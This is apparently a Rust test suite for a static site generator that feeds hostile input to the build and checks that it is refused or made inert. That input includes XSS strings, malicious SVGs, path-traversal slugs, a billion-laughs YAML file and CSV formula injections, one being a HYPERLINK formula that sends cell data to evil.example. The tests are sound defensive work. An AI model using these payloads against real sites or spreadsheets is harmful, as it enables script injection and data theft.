//! Issue 8: hostile and broken input. A corpus of bad sources, each with the exact
//! diagnostic it must produce; sources that look odd but are fine (BOM, CRLF, no body);
//! input that tries to blow up memory or the stack; and script injection through raw
//! HTML, Markdown links and front matter into pages, feeds and JSON-LD.

mod support;
#[path = "support/xss.rs"]
mod xss;

use std::path::Path;
use std::time::{Duration, Instant};

use support::{repo, SiteTest};

const HEAD: &str = "---\ntitle: 가\ndate: 2023-01-01\n---\n";

fn fixture(rel: &str) -> Vec<u8> {
    std::fs::read(repo().join("tests/fixtures/hostile").join(rel)).unwrap()
}

/// The basic site plus every file of `tests/fixtures/hostile/<dir>` in content/releases/.
fn site_with(dir: &str) -> SiteTest {
    let s = SiteTest::from_fixture("build/basic");
    let from = repo().join("tests/fixtures/hostile").join(dir);
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        std::fs::copy(
            e.path(),
            s.root().join("content/releases").join(e.file_name()),
        )
        .unwrap();
    }
    s
}

fn errors(s: &SiteTest) -> String {
    match s.try_build() {
        Ok(_) => panic!("the build should have failed"),
        Err(d) => d.to_string(),
    }
}

/// The first diagnostic line about `file` (diagnostics are `file[:line:col]: …`).
fn line_for<'a>(all: &'a str, file: &str) -> &'a str {
    all.lines()
        .find(|l| l.strip_prefix(file).is_some_and(|r| r.starts_with(':')))
        .unwrap_or_else(|| panic!("no diagnostic for {file}:\n{all}"))
}

/// Every bad source of the corpus, the position its diagnostic must name (`None`: the
/// file as a whole), its code (docs/lints.md) and the start of its message.
const CORPUS: &[(&str, Option<&str>, &str, &str)] = &[
    (
        "invalid-utf8.ko.md",
        Some("5:5"),
        "E000",
        "the file is not valid UTF-8",
    ),
    (
        "unclosed.ko.md",
        Some("1:1"),
        "E001",
        "the front matter is not closed",
    ),
    (
        "empty.ko.md",
        Some("1:1"),
        "E001",
        "the file does not start with front matter",
    ),
    (
        "tabs.ko.md",
        Some("3:1"),
        "E001",
        "a tab is used for indentation here",
    ),
    (
        "duplicate-key.ko.md",
        Some("4:1"),
        "E001",
        "the key `title` appears more than once",
    ),
    (
        "billion-laughs.ko.md",
        Some("4:1"),
        "E003",
        "unknown key `lol`",
    ),
    (
        "date-feb-30.ko.md",
        Some("3:7"),
        "E004",
        "date: `2023-02-30` is not a valid date",
    ),
    (
        "time-24.ko.md",
        Some("3:7"),
        "E004",
        "date: `2023-02-01T24:00` is not a valid date",
    ),
    (
        "slug-dotdot.ko.md",
        Some("4:1"),
        "E004",
        "slug: the slug contains the character '/'",
    ),
    (
        "slug-absolute.ko.md",
        Some("4:1"),
        "E004",
        "slug: the slug contains the character '/'",
    ),
    (
        "slug-reserved.ko.md",
        Some("4:1"),
        "E004",
        "slug: `con` is a reserved file name on Windows",
    ),
    (
        "slug-dots.ko.md",
        Some("4:1"),
        "E004",
        "slug: a slug may not start or end with a dot",
    ),
    (
        "slug-empty.ko.md",
        Some("4:1"),
        "E004",
        "slug: the slug is empty",
    ),
    (
        "same-url.ko.md",
        Some("4:1"),
        "E009",
        "slug: the URL /releases/committee/ is already used by content/releases/committee.ko.md",
    ),
    (
        "attachment-escape.ko.md",
        Some("5:11"),
        "E004",
        "attachments.path: `../site.toml` must be a plain path inside content/",
    ),
    (
        "attachment-absolute.ko.md",
        Some("5:11"),
        "E004",
        "attachments.path: `/etc/passwd` must be a plain path inside content/",
    ),
    (
        "unknown-milestone.ko.md",
        Some("5:9"),
        "E005",
        "milestone_updates.id: unknown milestone `nope`",
    ),
    // Issue 13: YAML in plain words, values that cannot be published.
    (
        "yaml-colon.ko.md",
        Some("2:10"),
        "E001",
        "the title has a colon and a space (`: `) in it, which YAML reads as the start of another field",
    ),
    (
        "unclosed-quote.ko.md",
        Some("2:8"),
        "E001",
        "the quote that opens here is never closed",
    ),
    (
        "nul-in-title.ko.md",
        Some("2:1"),
        "E004",
        "title: `title` holds the control character U+0000, which cannot be published",
    ),
    (
        "yaml-tag.ko.md",
        Some("2:8"),
        "E004",
        "the YAML tag `!!binary` is not used in front matter",
    ),
    (
        "title-null.ko.md",
        Some("2:1"),
        "E002",
        "title: `title` has no value",
    ),
    (
        "leap-second.ko.md",
        Some("3:7"),
        "E004",
        "date: `2016-12-31T23:59:60` is not a valid date: second 60 is a leap second",
    ),
    (
        "year-10000.ko.md",
        Some("3:1"),
        "E004",
        "date: +10000-01-01T10:00:00+09:00 falls in the year 10000 in the time zone Asia/Seoul",
    ),
    (
        "yaml-anchor.ko.md",
        Some("2:8"),
        "E004",
        "a YAML anchor (`&t`), which copies values in YAML, is not used in front matter",
    ),
    (
        "date-april-31.ko.md",
        Some("3:7"),
        "E004",
        "date: `2023-04-31` is not a valid date: April has 30 days",
    ),
    (
        "many-mistakes.ko.md",
        Some("1:1"),
        "E002",
        "title: the required field `title` is missing",
    ),
    (
        "wide-table.ko.md",
        Some("7:1"),
        "E013",
        "body: the table has 40000 columns; a table may have at most 1000",
    ),
    (
        "long-java.ko.md",
        Some("5:1"),
        "E008",
        "body: the link target `@/releases/none.ko.md` does not exist",
    ),
    // Generated by the test (too big or too odd to commit).
    (
        "huge.ko.md",
        None,
        "E000",
        "the file is 20 MB; the limit is 4 MB",
    ),
    (
        "deep-quote.ko.md",
        Some("5:101"),
        "E013",
        "body: the Markdown nests more than 100 levels deep",
    ),
    (
        "deep-list.ko.md",
        Some("5:"),
        "E013",
        "body: the Markdown nests more than 100 levels deep",
    ),
    (
        "deep-html.ko.md",
        Some("5:1"),
        "E013",
        "body: the Markdown nests more than 100 levels deep",
    ),
    (
        "outside-link.ko.md",
        None,
        "E000",
        "symbolic links are not followed in content/",
    ),
];

fn write_generated(s: &SiteTest, outside: &Path) {
    let rel = |n: &str| format!("content/releases/{n}");
    let mut huge = HEAD.to_string();
    huge.push_str(&format!("{}\n", "가나다라 ".repeat(15)).repeat(102_100));
    assert!(huge.len() > 20_000_000 && huge.len() < 21_000_000);
    s.write(&rel("huge.ko.md"), &huge);
    s.write(
        &rel("deep-quote.ko.md"),
        &format!("{HEAD}{} 깊다\n", ">".repeat(100_000)),
    );
    s.write(
        &rel("deep-list.ko.md"),
        &format!("{HEAD}{}깊다\n", "- ".repeat(50_000)),
    );
    s.write(
        &rel("deep-html.ko.md"),
        &format!("{HEAD}{}깊다\n", "<div><blockquote>".repeat(30_000)),
    );
    s.write(
        &rel("wide-table.ko.md"),
        &format!(
            "{HEAD}표\n\n|{}\n|{}\n{}",
            "a|".repeat(40_000),
            "-|".repeat(40_000),
            "|x|\n".repeat(20_000)
        ),
    );
    // A line of Java that took seconds to highlight, and an error after it: the block
    // falls back to plain text (a warning) and the error is still found.
    s.write(
        &rel("long-java.ko.md"),
        &format!(
            "{HEAD}[x](@/releases/none.ko.md)\n\n```java\n{}\n```\n",
            "lorem ipsum dolor ".repeat(20_000)
        ),
    );
    std::fs::write(outside.join("secret.md"), format!("{HEAD}비밀\n")).unwrap();
    std::os::unix::fs::symlink(
        outside.join("secret.md"),
        s.root().join(rel("outside-link.ko.md")),
    )
    .unwrap();
    std::os::unix::fs::symlink(outside, s.root().join(rel("linked-folder"))).unwrap();
}

#[test]
fn every_bad_source_gets_its_own_diagnostic_with_file_line_and_column() {
    let s = site_with("corpus");
    let outside = tempfile::tempdir().unwrap();
    write_generated(&s, outside.path());
    s.write(
        "content/milestones.yaml",
        "phases:\n  - id: p1\n    name: {ko: 1단계, en: Phase 1}\n    years: [2020, 2024]\nmilestones:\n  - id: alpha\n    phase: p1\n    title: {ko: 가, en: A}\n    planned: 2024-01\n",
    );
    let started = Instant::now();
    let all = errors(&s);
    let took = started.elapsed();
    for (file, loc, code, message) in CORPUS {
        let file = format!("content/releases/{file}");
        let line = line_for(&all, &file);
        let want_start = match loc {
            Some(l) => format!("{file}:{l}"),
            None => format!("{file}: "),
        };
        assert!(
            line.starts_with(&want_start),
            "{file}: expected the position `{want_start}`, got `{line}`"
        );
        // The code is part of what the build prints, right before the message.
        let want = format!(": error[{code}]: {message}");
        assert!(
            line.contains(&want),
            "{file}: expected `{want}` in `{line}`"
        );
    }
    // The symlinked folder is refused too, and nothing outside the site was read.
    assert!(
        all.contains(
            "content/releases/linked-folder: error[E000]: symbolic links are not followed"
        ),
        "{all}"
    );
    assert!(!all.contains("비밀"), "{all}");
    // The YAML scanner's own positions are file lines too (not YAML lines).
    assert!(!all.contains("at line 2 column 1"), "{all}");
    // Fast: no input here may make the build crawl (100k levels once took minutes).
    assert!(took < Duration::from_secs(30), "the build took {took:?}");
}

#[test]
fn bom_crlf_and_a_file_with_only_front_matter_are_accepted() {
    assert!(fixture("accepted/bom-crlf.ko.md").starts_with(b"\xEF\xBB\xBF---\r\n"));
    let s = site_with("accepted");
    s.build();
    let page = s.html("releases/bom-crlf/index.html");
    assert_eq!(page.text("main h1"), "BOM과 CRLF");
    let body = page.inner_html("main");
    assert!(body.contains("<p>첫 문단.</p>"), "{body}");
    assert!(!body.contains('\r') && !body.contains('\u{feff}'), "{body}");
    let page = s.html("releases/only-front-matter/index.html");
    assert_eq!(page.text("main h1"), "본문 없음");
}

/// A billion-laughs document (9^10 strings when expanded) fails fast. serde_yaml 0.9
/// counts alias expansions against a repetition limit and refuses the document.
#[test]
fn a_billion_laughs_document_fails_fast_within_a_memory_bound() {
    let text = String::from_utf8(fixture("corpus/billion-laughs.ko.md")).unwrap();
    let file = "content/releases/billion-laughs.ko.md";
    let split = gongbo::content::frontmatter::split(file, &text).unwrap();
    let started = Instant::now();
    let err = gongbo::content::frontmatter::parse::<serde_json::Value>(file, &split)
        .expect_err("the expansion must be refused");
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    assert!(err.message.contains("repetition limit"), "{err}");
    assert!(err.to_string().contains("too deeply"), "{err}");

    // Through the binary, with the document as tags.yaml (a data file) too: peak RSS is
    // measured with GNU time where it is installed.
    let s = SiteTest::from_fixture("build/basic");
    s.write("content/releases/laughs.ko.md", &text);
    s.write(
        "content/tags.yaml",
        text.trim_start_matches("---\n").trim_end_matches("---\n"),
    );
    let time = Path::new("/usr/bin/time");
    let started = Instant::now();
    let out = if time.exists() {
        std::process::Command::new(time)
            .env("LC_ALL", "C")
            .args(["-f", "maxrss=%M"])
            .arg(env!("CARGO_BIN_EXE_gongbo"))
            .args(["build", "--root"])
            .arg(s.root())
            .output()
            .unwrap()
    } else {
        std::process::Command::new(env!("CARGO_BIN_EXE_gongbo"))
            .env("LC_ALL", "C")
            .args(["build", "--root"])
            .arg(s.root())
            .output()
            .unwrap()
    };
    assert!(started.elapsed() < Duration::from_secs(10));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("content/tags.yaml:"), "{stderr}");
    if let Some(kb) = stderr
        .lines()
        .find_map(|l| l.strip_prefix("maxrss="))
        .and_then(|k| k.trim().parse::<u64>().ok())
    {
        assert!(kb < 256 * 1024, "peak RSS {kb} KB");
    }
}

// ----- script injection -----

/// Whether a `<script>` is ours: JSON-LD, or an external file of the built site.
fn our_script(out: &Path) -> impl Fn(&xss::Tag) -> bool + '_ {
    move |t: &xss::Tag| {
        let attr = |n: &str| {
            t.attrs
                .iter()
                .find(|(a, _)| a == n)
                .map(|(_, v)| v.as_str())
        };
        match (attr("type"), attr("src")) {
            (Some("application/ld+json"), None) => true,
            (_, Some(src)) => {
                let path = src.trim_start_matches("https://example.org/");
                let path = path.trim_start_matches('/');
                !src.contains(':')
                    || src.starts_with("https://example.org/")
                        && out.join(path.split(['?', '#']).next().unwrap()).is_file()
            }
            _ => false,
        }
    }
}

fn check_html(out: &Path, rel: &str, html: &str, found: &mut Vec<String>) {
    let allow = our_script(out);
    for t in xss::tags(html) {
        if let Some(p) = xss::problem(&t, &allow) {
            found.push(format!("{rel}: {p}"));
        }
    }
    // The parsed DOM agrees (scraper, html5ever): no handler, no script URL.
    let doc = scraper::Html::parse_document(html);
    for el in doc
        .root_element()
        .descendants()
        .filter_map(scraper::ElementRef::wrap)
    {
        let v = el.value();
        for (name, value) in v.attrs() {
            let url = xss::normalize_url(value);
            if name.starts_with("on")
                || (["href", "src", "action", "formaction", "xlink:href"].contains(&name)
                    && ["javascript:", "vbscript:", "data:text"]
                        .iter()
                        .any(|s| url.starts_with(s)))
            {
                found.push(format!("{rel}: <{} {name}=\"{value}\">", v.name()));
            }
        }
        if ["iframe", "object", "embed"].contains(&v.name()) {
            found.push(format!("{rel}: <{}>", v.name()));
        }
    }
    // JSON-LD: valid JSON whose text cannot end the script element early.
    let sel = scraper::Selector::parse("script[type=\"application/ld+json\"]").unwrap();
    for s in doc.select(&sel) {
        let text = s.inner_html();
        if text.to_ascii_lowercase().contains("</script") || text.contains("<!--") {
            found.push(format!("{rel}: JSON-LD can close its script: {text}"));
        }
        if serde_json::from_str::<serde_json::Value>(&text).is_err() {
            found.push(format!("{rel}: JSON-LD is not JSON: {text}"));
        }
    }
}

/// Every markup string in a JSON document (JSON Feed's `content_html`, and any string
/// of a file that is not a feed) is checked as HTML; every string for script URLs.
fn check_json(out: &Path, rel: &str, v: &serde_json::Value, html: bool, found: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => {
            if html && s.contains('<') {
                check_html(out, rel, s, found);
            }
            let url = xss::normalize_url(s);
            if url.starts_with("javascript:") || url.starts_with("vbscript:") {
                found.push(format!("{rel}: script URL {s}"));
            }
        }
        serde_json::Value::Array(a) => a.iter().for_each(|x| check_json(out, rel, x, html, found)),
        serde_json::Value::Object(o) => {
            let feed = o.contains_key("items") || o.contains_key("content_html");
            for (k, x) in o {
                let html = if feed || !html {
                    k.ends_with("_html")
                } else {
                    true
                };
                check_json(out, rel, x, html, found);
            }
        }
        _ => {}
    }
}

/// Every HTML page, XML feed (entries' text is HTML) and JSON file of a built site.
fn script_problems(out: &Path) -> (Vec<String>, usize) {
    let mut found = Vec::new();
    let mut checked = 0;
    for e in walkdir::WalkDir::new(out)
        .into_iter()
        .filter_map(Result::ok)
    {
        let rel = e
            .path()
            .strip_prefix(out)
            .unwrap()
            .to_string_lossy()
            .to_string();
        let Ok(text) = std::fs::read_to_string(e.path()) else {
            continue;
        };
        if rel.ends_with(".html") {
            check_html(out, &rel, &text, &mut found);
        } else if rel.ends_with(".xml") {
            let doc = roxmltree::Document::parse(&text)
                .unwrap_or_else(|err| panic!("{rel} is not XML: {err}"));
            for n in doc.descendants() {
                // Atom: `type="html"` text is markup; `type="text"` is shown as text.
                let html = n
                    .parent_element()
                    .is_some_and(|p| matches!(p.attribute("type"), Some("html" | "xhtml")));
                if let (true, Some(t)) = (html, n.text()) {
                    check_html(out, &rel, t, &mut found);
                }
                for a in n.attributes() {
                    let url = xss::normalize_url(a.value());
                    if url.starts_with("javascript:") || url.starts_with("vbscript:") {
                        found.push(format!("{rel}: {}=\"{}\"", a.name(), a.value()));
                    }
                }
            }
        } else if rel.contains("search/index/") {
            // The search index stores plain text on purpose (an editor's literal `<img …>`
            // in a title is searchable text); search.js only ever inserts it with
            // textContent, which `search_js_never_parses_index_text_as_html` pins down.
            continue;
        } else if rel.ends_with(".json") {
            let v: serde_json::Value = serde_json::from_str(&text)
                .unwrap_or_else(|err| panic!("{rel} is not JSON: {err}"));
            check_json(out, &rel, &v, !rel.ends_with("feed.json"), &mut found);
        } else {
            continue;
        }
        checked += 1;
    }
    (found, checked)
}

#[test]
fn search_js_never_parses_index_text_as_html() {
    let js =
        std::fs::read_to_string(support::repo().join("themes/default/static/search.js")).unwrap();
    for sink in [
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "eval(",
        "new Function",
    ] {
        assert!(!js.contains(sink), "search.js uses {sink}");
    }
    assert!(js.contains("textContent"));
}

#[test]
fn no_script_survives_into_pages_feeds_or_json_ld() {
    let s = SiteTest::from_fixture("build/basic");
    for lang in ["ko", "en"] {
        let text = fixture(&format!("xss/content/releases/evil.{lang}.md"));
        s.write(
            &format!("content/releases/evil.{lang}.md"),
            std::str::from_utf8(&text).unwrap(),
        );
    }
    s.build();
    let out = s.out();
    assert!(s.exists("atom.xml") || s.exists("feed.xml"), "no feed");
    let (found, checked) = script_problems(&out);
    assert!(found.is_empty(), "{}", found.join("\n"));
    assert!(checked > 20, "only {checked} files checked");
    // The hostile text is still there, as text: nothing was silently dropped.
    let page = s.html("releases/evil/index.html");
    assert!(page
        .text("main h1")
        .contains("</script><script>alert('title')</script>"));
    assert!(page
        .text("main")
        .contains("<script>alert('in code is text')</script>"));
    // The JSON-LD carries the title exactly.
    let ld = page.inner_html("script[type=\"application/ld+json\"]");
    let v: serde_json::Value = serde_json::from_str(&ld).unwrap();
    assert!(
        v.to_string()
            .contains("</script><script>alert('title')</script> 제목"),
        "{v}"
    );
    // The checker itself catches what it should.
    for bad in [
        "<a href=\"java\tscript:x\">",
        "<a href=\"&#106;avascript:x\">",
        "<a href=\" JAVASCRIPT:x\">",
        "<img src=x onerror=y>",
        "<svg><a xlink:href='javascript:x'>",
        "<iframe src=a>",
        "<script>x</script>",
        "<form action=\"data:text/html,x\">",
    ] {
        assert!(!xss::problems(bad).is_empty(), "{bad}");
    }
    assert!(xss::problems("<p title=\"a onclick=b\">onclick=x javascript:</p>").is_empty());
}

// ----- the output folder -----

#[test]
fn output_refuses_the_site_its_sources_home_and_root() {
    let s = SiteTest::from_fixture("build/basic");
    let home = tempfile::tempdir().unwrap();
    let home_str = home.path().to_str().unwrap().to_string();
    let root = s.root().to_str().unwrap().to_string();
    let cases: [(&str, &str); 7] = [
        (".", "it contains the site's sources"),
        (&root, "it contains the site's sources"),
        ("..", "it contains the site's sources"),
        ("content", "it is inside the site's content"),
        ("themes", "it is inside the site's themes"),
        ("/", "it is the file system root"),
        (&home_str, "it is your home folder"),
    ];
    let before = support::tree(s.root());
    for (output, why) in cases {
        let (code, err) = s.cli(&["--output", output], &[("HOME", &home_str)]);
        assert_eq!(code, 2, "--output {output}: {err}");
        assert!(
            err.contains("--output: error[E000]: refusing to replace") && err.contains(why),
            "--output {output}: {err}"
        );
    }
    assert_eq!(support::tree(s.root()), before, "the site was touched");
    assert!(std::fs::read_dir(home.path()).unwrap().next().is_none());
}

/// `.public.gongbo-new-*` / `-old-*` folders beside the output.
fn leftovers(parent: &Path) -> Vec<String> {
    std::fs::read_dir(parent)
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().to_string())
        .filter(|n| n.contains(".gongbo-"))
        .collect()
}

/// A killed build (SIGKILL at several moments) never leaves a half-written or missing
/// file, and the next build repairs whatever it left. 2000 generated releases make the
/// build long enough (seconds in a debug build) to be killed while writing. Twenty
/// releases per list page (the fixture has two) keep the output near 2,400 files
/// instead of 4,200: the extra list and tag pages would only add disk time.
///
/// Two kinds of build are killed: one that writes only what changed into the output it
/// kept a state for (every file is then its old or its new version, one rename each),
/// and a clean one (`--clean`), which replaces the whole folder in two renames (the old
/// site, or the new one, whole).
#[test]
fn a_build_killed_midway_leaves_no_half_written_file() {
    let s = SiteTest::from_fixture("build/basic");
    let config = std::fs::read_to_string(s.root().join("site.toml")).unwrap();
    s.write(
        "site.toml",
        &config.replace("releases_per_page = 2", "releases_per_page = 20"),
    );
    for i in 0..2000 {
        s.write(
            &format!("content/releases/gen-{i:04}.ko.md"),
            &format!(
                "---\ntitle: 생성된 보도자료 {i}\ndate: 2020-01-01T{:02}:{:02}\ntags: [budget]\n---\n# 제목 {i}\n\n본문 {i}. [링크](https://example.org/{i})\n\n- 하나\n- 둘\n",
                i % 24,
                i % 60
            ),
        );
    }
    let (code, err) = s.cli(&[], &[]);
    assert_eq!(code, 0, "{err}");
    let before = support::tree(&s.out());
    assert!(before.len() > 2000);
    // Change every page so that any partial write would show, and make the site as it
    // should then be, in another folder.
    s.write(
        "site.toml",
        &std::fs::read_to_string(s.root().join("site.toml"))
            .unwrap()
            .replace("시험 공보", "바뀐 공보"),
    );
    let elsewhere = s.root().join("expected");
    let (code, err) = s.cli(&["--clean", "--output", elsewhere.to_str().unwrap()], &[]);
    assert_eq!(code, 0, "{err}");
    let after = support::tree(&elsewhere);
    std::fs::remove_dir_all(&elsewhere).unwrap();
    let marker = ".gongbo-output";
    let mut killed = 0;
    // Moments: at start-up, and 0 ms, 150 ms, 500 ms, 1.2 s after the build began writing
    // its temporary folder; each for a build that keeps a state and for a clean one.
    for clean in [false, true] {
        for extra_ms in [None, Some(0u64), Some(150), Some(500), Some(1200)] {
            let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_gongbo"));
            cmd.env("LC_ALL", "C")
                .args(["build", "--root"])
                .arg(s.root());
            if clean {
                cmd.arg("--clean");
            }
            let mut child = cmd
                .env("SOURCE_DATE_EPOCH", support::NOW.to_string())
                .stderr(std::process::Stdio::null())
                .spawn()
                .unwrap();
            let tmp = s.root().join(format!(".public.gongbo-new-{}", child.id()));
            match extra_ms {
                None => std::thread::sleep(Duration::from_millis(20)),
                Some(ms) => {
                    let started = Instant::now();
                    while !tmp.exists() && started.elapsed() < Duration::from_secs(60) {
                        if child.try_wait().unwrap().is_some() {
                            break;
                        }
                        std::thread::sleep(Duration::from_millis(2));
                    }
                    std::thread::sleep(Duration::from_millis(ms));
                }
            }
            let _ = child.kill(); // SIGKILL
            let status = child.wait().unwrap();
            if status.success() {
                break; // it finished first: nothing left to interrupt
            }
            killed += 1;
            let delay_ms = extra_ms.unwrap_or(0);
            if s.out().exists() {
                let now = support::tree(&s.out());
                if clean {
                    // The old site, or (killed while deleting the old copy) the new one.
                    assert!(
                        now == before || now == after,
                        "a kill at {delay_ms} ms left a partial site"
                    );
                }
                for (path, bytes) in &now {
                    if path.as_str() == marker {
                        continue;
                    }
                    assert!(
                        before.get(path) == Some(bytes) || after.get(path) == Some(bytes),
                        "a kill at {delay_ms} ms left {path} half-written or unknown"
                    );
                }
            } else {
                // Killed between the two renames of a clean build: the old output is
                // intact beside it and the next build puts it back.
                let old = leftovers(s.root())
                    .into_iter()
                    .find(|n| n.contains("gongbo-old-"))
                    .expect("output missing and no moved-aside copy");
                assert!(support::tree(&s.root().join(old)) == before);
            }
        }
    }
    assert!(
        killed >= 4,
        "only {killed} builds were killed before finishing"
    );
    let (code, err) = s.cli(&[], &[]);
    assert_eq!(code, 0, "{err}");
    assert!(s.read("index.html").contains("바뀐 공보"));
    assert!(
        support::tree(&s.out()) == after,
        "the next build did not repair the output"
    );
    assert_eq!(leftovers(s.root()), Vec::<String>::new());
}

/// An SVG under content/ is copied as it is and, opened directly, would run its script
/// in the site's origin: such files are refused; plain drawings pass.
#[test]
fn svg_files_with_scripts_are_refused() {
    let s = SiteTest::from_fixture("build/basic");
    let cases = [
        (
            "script.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        ),
        (
            "onload.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
        ),
        ("handler.svg", "<svg><rect\nONCLICK = 'x()'/></svg>"),
        (
            "link.svg",
            "<svg><a xlink:href=\"java\nscript:alert(1)\"><text>x</text></a></svg>",
        ),
        (
            "entity.svg",
            "<svg><a href=\"&#106;avascript:alert(1)\">x</a></svg>",
        ),
        (
            "foreign.svg",
            "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
        ),
    ];
    for (name, text) in cases {
        s.write(&format!("content/images/{name}"), text);
    }
    s.write(
        "content/images/fine.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>one = two; online &#44032;</text></svg>",
    );
    let all = errors(&s);
    // Since issue 13 SVGs are parsed (src/content/svg/): each error names what it found,
    // and a drawing without the SVG namespace is not a drawing (tests/svg.rs has the rest).
    for (name, why) in [
        ("script.svg", "the SVG element `<script>` is not allowed"),
        (
            "onload.svg",
            "the attribute `onload` of `<svg>` is not allowed",
        ),
        (
            "handler.svg",
            "the file is not an SVG drawing: its root element `<svg>` is not `<svg xmlns=",
        ),
        (
            "link.svg",
            "the SVG is not well-formed XML: an unknown namespace prefix 'xlink'",
        ),
        (
            "entity.svg",
            "the file is not an SVG drawing: its root element `<svg>` is not `<svg xmlns=",
        ),
        (
            "foreign.svg",
            "the SVG is not well-formed XML: expected a quote",
        ),
    ] {
        let line = line_for(&all, &format!("content/images/{name}"));
        assert!(line.contains(&format!("error[E000]: {why}")), "{line}");
    }
    assert!(!all.contains("fine.svg"), "{all}");
}

// ----- addresses in site.toml, CSV cells (issue 13) -----

/// `organization.url` and the base URL land on every page: anything but an http(s)
/// address with a real host is refused at its line, through the binary.
#[test]
fn site_toml_addresses_are_checked_at_their_line() {
    let s = SiteTest::from_fixture("build/basic");
    let good = std::fs::read_to_string(s.root().join("site.toml")).unwrap();
    let cases = [
        (
            "url = \"https://city.example.org/\"",
            "url = \"javascript:alert(document.domain)\"",
            "site.toml:16:1: error[E010]: organization.url: `javascript:alert(document.domain)` is not an http:// or https:// address",
        ),
        (
            "url = \"https://city.example.org/\"",
            "url = \"https://city.example.org/\\\" onmouseover=\\\"alert(1)\"",
            "site.toml:16:1: error[E010]: organization.url: `https://city.example.org/\" onmouseover=\"alert(1)` contains the character `\"`",
        ),
        (
            "base_url = \"https://example.org/\"",
            "base_url = \"https://press:secret@example.org/\"",
            "site.toml:1:1: error[E010]: base_url: base URL `https://press:secret@example.org/` contains a user name or password",
        ),
        (
            "email = \"press@example.org\"",
            "email = \"<script>@example.org\"",
            "organization.contact.email: `<script>@example.org` is not an e-mail address",
        ),
        (
            "phone = \"062-000-0000\"",
            "phone = \"062<img src=x onerror=alert(1)>\"",
            "organization.contact.phone: `062<img src=x onerror=alert(1)>` is not a phone number",
        ),
    ];
    for (from, to, want) in cases {
        assert!(good.contains(from), "{from}");
        s.write("site.toml", &good.replace(from, to));
        let (code, err) = s.cli(&[], &[]);
        assert_eq!(code, 1, "{to}: {err}");
        assert!(err.contains(want), "{to}: expected\n{want}\nin\n{err}");
    }
    s.write("site.toml", &good);
    s.build();
    assert_eq!(
        s.html("index.html")
            .attr("footer a[href^=\"https://city\"]", "href")
            .as_deref(),
        Some("https://city.example.org/")
    );
}

/// A milestone whose title is a spreadsheet formula reaches milestones.csv as text.
#[test]
fn csv_cells_that_look_like_formulas_are_made_inert() {
    let s = SiteTest::from_fixture("milestones/basic");
    let yaml = std::fs::read_to_string(s.root().join("content/milestones.yaml")).unwrap();
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"열기\")";
    let yaml = yaml
        .replace("\"알파 착수\"", &format!("'{formula}'"))
        .replace("\"Alpha starts\"", "\"@SUM(1+1)\"")
        .replace("\"The alpha step.\"", "\"-2+3 and +cmd|' /C calc'!A0\"");
    s.write("content/milestones.yaml", &yaml);
    s.build();
    let bytes = std::fs::read(s.out().join("milestones.csv")).unwrap();
    let mut r = csv::Reader::from_reader(&bytes[3..]);
    let header = r.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let alpha = r
        .records()
        .map(Result::unwrap)
        .find(|row| &row[0] == "alpha")
        .unwrap();
    assert_eq!(&alpha[col("title_ko")], format!("'{formula}"));
    assert_eq!(&alpha[col("title_en")], "'@SUM(1+1)");
    assert_eq!(
        &alpha[col("description_en")],
        "'-2+3 and +cmd|' /C calc'!A0"
    );
    // Ordinary cells are untouched: dates, ids, text with a dash inside.
    assert_eq!(&alpha[col("planned")], "2021-03");
    // The JSON keeps the text as written.
    assert!(s.read("milestones.json").contains("=HYPERLINK"));
}
